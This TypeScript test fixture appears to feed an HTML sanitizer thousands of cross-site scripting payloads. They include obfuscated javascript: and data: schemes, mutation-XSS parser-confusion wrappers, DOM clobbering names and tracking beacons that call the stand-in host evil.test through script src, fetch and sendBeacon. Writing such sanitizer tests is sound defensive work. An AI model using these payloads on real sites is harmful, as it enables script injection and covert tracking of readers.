// Thousands of attempts to run a script, leave a live node or cause a request from within an article.

const call = 'alert(1)'
export const evil = 'http://evil.test'

const handlers =
  'abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle beforeunload begin blur bounce canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel message pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend wheel'.split(
    ' ',
  )
const carriers = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'a href=#',
  'p tabindex=1 autofocus',
  'input autofocus',
  'marquee',
  'figure',
  'math',
  'xss',
  'iframe',
  'audio src=x',
  'table',
]

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  '\njavascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u001fjavascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'java\0script:alert(1)',
  'java&#9;script:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript&#0000058alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'jav&#x09;ascript:alert(1);',
  '&#14; javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript://evil.test/%0aalert(1)//',
  'javascript:/*--></title></style></textarea></script>*/alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>parent.alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  'blob:http://evil.test/1',
  'file:///etc/passwd',
  'smb://evil.test/share',
  'ftp://evil.test/x',
  'feed:javascript:alert(1)',
  'view-source:http://evil.test/',
  'ws://evil.test/',
  'intent://evil.test/#Intent;scheme=http;end',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=x',
  'tel:+411234',
  'about:blank',
  'chrome://settings',
  'jar:http://evil.test/x.jar!/',
  'filesystem:http://evil.test/x',
  '//evil.test/x',
  '\\\\evil.test\\x',
  '/\\evil.test/x',
  'http:evil.test/x',
  'https:/\\evil.test/x',
  'http://evil.test/x',
  '\u0000http://evil.test/x',
]
const addressCarriers = [
  (v: string) => `<a href="${v}">x</a>`,
  (v: string) => `<a href='${v}'>x</a>`,
  (v: string) => `<a href=${v.replace(/[\s>"'`]/g, '')}>x</a>`,
  (v: string) => `<svg><a xlink:href="${v}"><text>x</text></a></svg>`,
  (v: string) => `<math href="${v}"><mi xlink:href="${v}">x</mi></math>`,
  (v: string) => `<math><maction actiontype="statusline#${v}" xlink:href="${v}">x</maction></math>`,
  (v: string) => `<form action="${v}"><button>x</button></form><button form=f formaction="${v}">x</button>`,
  (v: string) => `<iframe src="${v}"></iframe><iframe srcdoc="${v}"></iframe>`,
  (v: string) =>
    `<object data="${v}"><param name=src value="${v}"></object><embed src="${v}"><applet code="${v}"></applet>`,
  (v: string) => `<img src="${v}" lowsrc="${v}" dynsrc="${v}" longdesc="${v}">`,
  (v: string) => `<img srcset="${v} 2x, ${v} 100w" data-src="${v}" data-srcset="${v} 900w">`,
  (v: string) => `<picture><source srcset="${v}"><img alt=x></picture>`,
  (v: string) => `<video src="${v}" poster="${v}"><source src="${v}"><track src="${v}"></video>`,
  (v: string) => `<audio src="${v}" autoplay><source src="${v}"></audio>`,
  (v: string) => `<body background="${v}"><table background="${v}"><tr><td background="${v}">x`,
  (v: string) =>
    `<link rel=stylesheet href="${v}"><link rel=prefetch href="${v}"><link rel=preload as=image href="${v}"><link rel=import href="${v}">`,
  (v: string) => `<base href="${v}"><a href=x>x</a><img src=y.png>`,
  (v: string) => `<meta http-equiv=refresh content="0;url=${v}"><meta http-equiv="Set-Cookie" content="a=b">`,
  (v: string) => `<input type=image src="${v}"><isindex action="${v}">`,
  (v: string) =>
    `<blockquote cite="${v}"><q cite="${v}">x</q><ins cite="${v}">x</ins><del cite="${v}">y</del></blockquote>`,
  (v: string) =>
    `<a href="http://ok.test/" ping="${v}" attributionsrc="${v}">x</a><area href="${v}"><map name=m><area href="${v}" shape=default></map>`,
  (v: string) => `<p style="background:url(${v})">x</p><style>@import "${v}";p{background:url("${v}")}</style>`,
  (v: string) =>
    `<svg><image href="${v}"/><use href="${v}"/><script href="${v}"/><feImage href="${v}"/><set attributeName=href to="${v}"/></svg>`,
  (v: string) => `<svg><a><animate attributeName=href values="${v}"/><text y=20>x</text></a></svg>`,
  (v: string) =>
    `<frameset><frame src="${v}"></frameset><portal src="${v}"></portal><fencedframe></fencedframe><noscript><img src="${v}"></noscript>`,
]

/** Places where parsers disagree: what is text in one is markup in the other. */
const wrappers: [string, string][] = [
  ['<math>', '</math>'],
  ['<svg>', '</svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
  ['<math><mtext><malignmark>', '</malignmark></mtext></math>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<style>', '</style>'],
  ['<math><style>', '</style></math>'],
  ['<svg><style>', '</style></svg>'],
  ['<title>', '</title>'],
  ['<textarea>', '</textarea>'],
  ['<noscript>', '</noscript>'],
  ['<noscript><p title="</noscript>', '"></noscript>'],
  ['<template>', '</template>'],
  ['<template shadowrootmode=open>', '</template>'],
  ['<xmp>', '</xmp>'],
  ['<iframe>', '</iframe>'],
  ['<noembed>', '</noembed>'],
  ['<noframes>', '</noframes>'],
  ['<plaintext>', ''],
  ['<listing>', '</listing>'],
  ['<pre>\n', '</pre>'],
  ['<select>', '</select>'],
  ['<select><option>', '</option></select>'],
  ['<table>', '</table>'],
  ['<table><caption>', '</caption></table>'],
  ['<form><math><mtext></form><form>', '</form></mtext></math>'],
  ['<!--', '-->'],
  ['<!-->', '-->'],
  ['<!--->', '-->'],
  ['<!--', '--!>'],
  ['<![CDATA[', ']]>'],
  ['<svg><![CDATA[', ']]></svg>'],
  ['<?xml ', '?>'],
  ['<!DOCTYPE html [<!ENTITY x "', '">]>&x;'],
  ['<a title="', '">'],
  ["<p title='", "'>"],
  ['<p title=`', '`>'],
  ['<a href="http://ok.test/?', '">x</a>'],
  ['<img alt="', '" src="http://ok.test/a.png">'],
  ['<button>', '</button>'],
  ['<object>', '</object>'],
  ['<p><b><p>', '</b>'],
  ['<a><a>', '</a>'],
  ['<nobr><nobr>', '</nobr>'],
  ['<ruby><rt>', '</rt></ruby>'],
]
const payloads = [
  `<img src=x onerror=${call}>`,
  `<script>${call}</script>`,
  `<svg onload=${call}>`,
  `</style><img src=x onerror=${call}>`,
  `</title></textarea></noscript></xmp></iframe></noembed></noframes></template><img src=${evil}/1 onerror=${call}>`,
  `--><img src=x onerror=${call}>`,
  `<mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `" onmouseover=${call} autofocus onfocus=${call} x="`,
]

const classics = [
  `<script src=${evil}/x.js></script>`,
  `<SCRIPT SRC=${evil}/x.js?<B>`,
  `<<SCRIPT>${call};//<</SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<script>${call}`,
  `<img """><script>${call}</script>">`,
  `<img src=x onerror\n=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x oNeRrOr=${call}//`,
  `<img src="x" \`\`onerror=${call}>`,
  `<img src=x\0 onerror=${call}>`,
  `<im\0g src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math></p><style><!--</style><img src/onerror=${call}>-->`,
  `<a href="javascript:${call}" target=_blank rel=opener>x</a>`,
  `<form id=x></form><button form=x formaction="javascript:${call}">x</button>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<dialog open onclose=${call}>x</dialog>`,
  `<p popover id=x onbeforetoggle=${call}>x</p><button popovertarget=x>x</button>`,
  `<input type=text autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<video><source onerror=${call}></video>`,
  `<body onload=${call}>`,
  `<div style="width:expression(${call})">x</div>`,
  `<div style="background:url(${evil}/css)">x</div>`,
  `<div style="-moz-binding:url(${evil}/x.xml#x)">x</div>`,
  `<style>@import '${evil}/css';</style>`,
  `<style>body{background:url(${evil}/bg)}</style>`,
  `<link rel="icon" href="${evil}/icon">`,
  `<link rel="dns-prefetch" href="${evil}"><link rel=preconnect href="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/r">`,
  `<iframe src="${evil}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="${evil}/o"></object>`,
  `<embed src="${evil}/e">`,
  `<input type=image src="${evil}/i">`,
  `<svg><image href="${evil}/s"/></svg>`,
  `<svg><filter><feImage href="${evil}/f"/></filter></svg>`,
  `<a ping="${evil}/p" href="http://ok.test/">x</a>`,
  `<img src="http://ok.test/a.png" srcset="${evil}/2x 2x">`,
  `<video poster="${evil}/poster" src="${evil}/v" autoplay></video>`,
  `<audio src="${evil}/a" autoplay></audio>`,
  `<table background="${evil}/t"><tr><td background="${evil}/d">x`,
  `<base href="${evil}/"><img src="b.png">`,
  `<x-foo onclick=${call}>x</x-foo><slot onslotchange=${call}></slot>`,
  `<template><script>${call}</script></template><div><template shadowrootmode=open><script>${call}</script></template></div>`,
  `<script type=importmap>{"imports":{"x":"${evil}/m"}}</script><script type=module>import "${evil}/m"</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${evil}/spec"]}]}</script>`,
  `<meta name=referrer content=unsafe-url><meta http-equiv=Content-Security-Policy content="report-uri ${evil}/csp">`,
  `<html manifest="${evil}/m"><head profile="${evil}/p">`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<bgsound src="${evil}/b"><layer src="${evil}/l"></layer><ilayer src="${evil}/l">`,
  `<xml id=x><a b="&lt;script>${call}&lt;/script>"></xml>`,
  `<font color="red' onmouseover=${call} '">x</font>`,
  `<a id=x tabindex=1 onfocus=${call}></a>`,
  `<li style=list-style:url() onerror=${call}>`,
  `<div draggable=true ondragstart=${call}>x</div>`,
  `<select onchange=${call}><option>1</select>`,
  `<p contenteditable onbeforeinput=${call}>x</p>`,
  `<a href="&#x6a;avascript:${call}">x</a>`,
  `<a href="http://ok.test/" onclick="${call}" onmouseover=${call}>x</a>`,
]

const clobbered =
  'alert attributes body childNodes children cookie createElement defaultView document documentElement domain firstChild forms frames getElementById history host innerHTML length location name nodeName parentNode querySelector self setHTML top trustedTypes window app root broadsheet __proto__ constructor prototype toString hasOwnProperty'.split(
    ' ',
  )

export function attacks(): string[] {
  const all: string[] = [...classics, ...payloads]
  for (const handler of handlers)
    for (const carrier of carriers) all.push(`<${carrier} on${handler}=${call}>x</${carrier.split(' ')[0]}>`)
  for (const scheme of schemes) for (const carrier of addressCarriers) all.push(carrier(scheme))
  for (const [open, close] of wrappers)
    for (const payload of payloads) {
      all.push(open + payload + close)
      all.push(`<p>words ${open}${payload}${close} words</p>`)
    }
  for (const [open, close] of wrappers)
    for (const [innerOpen, innerClose] of wrappers)
      all.push(open + innerOpen + `<img src=x onerror=${call}>` + innerClose + close)
  for (const name of clobbered) {
    all.push(`<a id=${name} name=${name} href="http://ok.test/">x</a><a id=${name}>y</a>`)
    all.push(`<form name=${name}><input name=${name}></form><img name=${name} id=${name} src="http://ok.test/i.png">`)
    all.push(`<iframe name=${name} src="${evil}/n"></iframe><object id=${name}></object>`)
  }
  all.push(...shuffled(2500))
  return all
}

/** Broken pieces in random order; the same every time. */
function shuffled(count: number): string[] {
  const pieces = [
    ...wrappers.flat(),
    ...payloads,
    '<', '>', '"', "'", '`', '=', '/', '&', '&lt;', '&gt;', '&#60;', '\0', '\t', '\n', '\f', '\r', '</', '<!', '<?', ' onerror=alert(1) ', ' src=x ', ' href=javascript:alert(1) ',
    '<p>', '</p>', '<b>', '</b>', '<table>', '<tr>', '<td>', '</table>', '<a href="', '<img src="', '<figure>', '<ul><li>', '<div', '<svg', '<math', 'javascript:alert(1)', `${evil}/z`,
  ] // prettier-ignore
  let seed = 20261123
  const random = (below: number) => {
    seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff
    return Math.floor((seed / 0x80000000) * below)
  }
  return Array.from({ length: count }, () =>
    Array.from({ length: 2 + random(10) }, () => pieces[random(pieces.length)]).join(''),
  )
}

/** A page that tries every way of telling somebody that it has been opened. */
export const beacons = [
  `<img src="${evil}/1.gif" width=1 height=1><img src="${evil}/pixel.gif"><img src="http://ok.test/photo.jpg" srcset="${evil}/2.jpg 2x">`,
  `<picture><source srcset="${evil}/3.webp"><img src="${evil}/4.jpg"></picture>`,
  `<video poster="${evil}/5.jpg" src="${evil}/6.mp4" autoplay preload=auto><source src="${evil}/7.mp4"><track default src="${evil}/8.vtt"></video>`,
  `<audio src="${evil}/9.mp3" autoplay preload=auto></audio>`,
  `<iframe src="${evil}/10"></iframe><iframe src="https://www.youtube.com/embed/abcdefghijk"></iframe>`,
  `<link rel=stylesheet href="${evil}/11.css"><link rel=prefetch href="${evil}/12"><link rel=preload as=image href="${evil}/13"><link rel=icon href="${evil}/14"><link rel=modulepreload href="${evil}/14b">`,
  `<object data="${evil}/15"></object><embed src="${evil}/16"><applet code="${evil}/17"></applet>`,
  `<form action="${evil}/18"><input type=image src="${evil}/19"></form>`,
  `<svg><image href="${evil}/20"/><use href="${evil}/21#x"/><style>@import "${evil}/22"</style></svg>`,
  `<a href="http://ok.test/" ping="${evil}/23">words with a link</a>`,
  `<meta http-equiv=refresh content="0;url=${evil}/24">`,
  `<body background="${evil}/25"><table background="${evil}/26"><tr><td background="${evil}/27">cell</td></tr></table>`,
  `<p style="background:url(${evil}/28);list-style:url(${evil}/29)">styled words</p><style>p{background:url(${evil}/30)}@font-face{font-family:x;src:url(${evil}/31)}p{font-family:x}</style>`,
  `<script>new Image().src="${evil}/32";navigator.sendBeacon("${evil}/33");fetch("${evil}/34")</script><script src="${evil}/35"></script>`,
  `<noscript><img src="${evil}/36.gif" width="1" height="1"></noscript>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="${evil}/37.jpg" data-srcset="${evil}/38.jpg 800w">`,
  `<amp-pixel src="${evil}/39"></amp-pixel><amp-img src="${evil}/40.jpg" width=400 height=300></amp-img>`,
  `<details open><summary>more</summary><img src="${evil}/41.jpg" loading=eager></details>`,
  `<math><mi href="${evil}/42">x</mi><mglyph src="${evil}/43"/></math>`,
  `<base href="${evil}/44/"><img src="relative.jpg">`,
].join('\n')
